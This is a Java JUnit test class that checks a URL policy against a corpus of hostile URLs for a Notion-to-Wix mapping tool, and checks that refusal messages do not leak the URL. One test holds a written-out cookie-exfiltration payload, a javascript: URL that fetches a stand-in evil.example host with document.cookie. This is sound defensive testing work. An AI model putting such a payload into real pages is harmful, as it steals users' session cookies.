package io.wiredchaos.notionwix.mapping;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** {@link UrlPolicy} over the hostile-content corpus {@code src/test/resources/hostile-urls.tsv}. */
class UrlPolicyTest {

  static final Path CORPUS = Path.of("src/test/resources/hostile-urls.tsv");
  private static final Pattern REPEAT = Pattern.compile("\\{repeat (\\d+) (.)}");

  /** One corpus line. */
  record Case(UrlPolicy.Use use, String input, boolean allowed, String reason, int line) {

    @Override
    public String toString() {
      String shown = input.length() > 60 ? input.substring(0, 60) + "…(" + input.length() + " chars)" : input;
      return "line " + line + " " + use + " " + escape(shown);
    }
  }

  static List<Case> corpus() throws IOException {
    List<String> lines = Files.readAllLines(CORPUS, StandardCharsets.UTF_8);
    List<Case> cases = new java.util.ArrayList<>();
    for (int i = 0; i < lines.size(); i++) {
      String line = lines.get(i);
      if (line.isEmpty() || line.startsWith("#")) {
        continue;
      }
      String[] cells = line.split("\t", -1);
      assertThat(cells).as("line %d has four tab-separated cells", i + 1).hasSize(4);
      assertThat(cells[2]).as("verdict on line %d", i + 1).isIn("allow", "refuse");
      cases.add(new Case(UrlPolicy.Use.valueOf(cells[0]), unescape(cells[1]), cells[2].equals("allow"), cells[3],
          i + 1));
    }
    return cases;
  }

  static Stream<Arguments> cases() throws IOException {
    return corpus().stream().map(Arguments::of);
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("cases")
  void verdictAsTheCorpusSays(Case c) {
    UrlPolicy.Verdict verdict = UrlPolicy.check(c.input(), c.use());

    assertThat(verdict.url()).as("the policy never rewrites a URL").isEqualTo(c.input());
    if (c.allowed()) {
      assertThat(verdict.refusal()).as("refusal").isNull();
    } else {
      assertThat(verdict.refusal()).as("refusal").isNotNull().contains(c.reason());
    }
  }

  @Test
  void theCorpusIsLargeAndCoversEveryKindOfTrick() throws IOException {
    List<Case> cases = corpus();
    assertThat(cases).hasSizeGreaterThanOrEqualTo(30);
    assertThat(cases).filteredOn(Case::allowed).hasSizeGreaterThanOrEqualTo(10);
    assertThat(cases.stream().map(Case::input)).anyMatch(s -> s.contains("\t")).anyMatch(s -> s.startsWith(" "))
        .anyMatch(s -> s.startsWith("//")).anyMatch(s -> s.contains("&#")).anyMatch(s -> s.length() > 2000)
        .anyMatch(s -> s.startsWith("data:")).anyMatch(s -> s.startsWith("JaVaScRiPt:"));
  }

  @Test
  void nullIsRefusedAsEmpty() {
    assertThat(UrlPolicy.check(null, UrlPolicy.Use.LINK).refusal()).isEqualTo("empty URL");
  }

  @Test
  void refusalsNameAtMostTheSchemeNeverTheRestOfTheUrl() {
    String secret = "javascript:fetch('https://evil.example/?c='+document.cookie)";
    assertThat(UrlPolicy.check(secret, UrlPolicy.Use.LINK).refusal()).doesNotContain("evil", "cookie");
    assertThat(UrlPolicy.check("x".repeat(50) + ":y", UrlPolicy.Use.LINK).refusal()).hasSizeLessThan(60);
  }

  static String unescape(String cell) {
    Matcher m = REPEAT.matcher(cell);
    StringBuilder expanded = new StringBuilder();
    while (m.find()) {
      m.appendReplacement(expanded, Matcher.quoteReplacement(m.group(2).repeat(Integer.parseInt(m.group(1)))));
    }
    m.appendTail(expanded);
    String s = expanded.toString();
    StringBuilder out = new StringBuilder();
    for (int i = 0; i < s.length(); i++) {
      char c = s.charAt(i);
      if (c != '\\' || i + 1 == s.length()) {
        out.append(c);
        continue;
      }
      char next = s.charAt(++i);
      switch (next) {
        case 't' -> out.append('\t');
        case 'n' -> out.append('\n');
        case 'r' -> out.append('\r');
        case '\\' -> out.append('\\');
        case 'u' -> {
          out.append((char) Integer.parseInt(s.substring(i + 1, i + 5), 16));
          i += 4;
        }
        default -> throw new IllegalArgumentException("unknown escape \\" + next + " in " + cell);
      }
    }
    return out.toString();
  }

  private static String escape(String s) {
    StringBuilder out = new StringBuilder();
    s.codePoints().forEach(c -> out.append(c < 0x20 || c >= 0x7F && c <= 0xA0 || Character.getType(c) == Character.FORMAT
        || c == 0x2028 ? String.format("\\u%04X", c) : Character.toString(c)));
    return out.toString();
  }
}
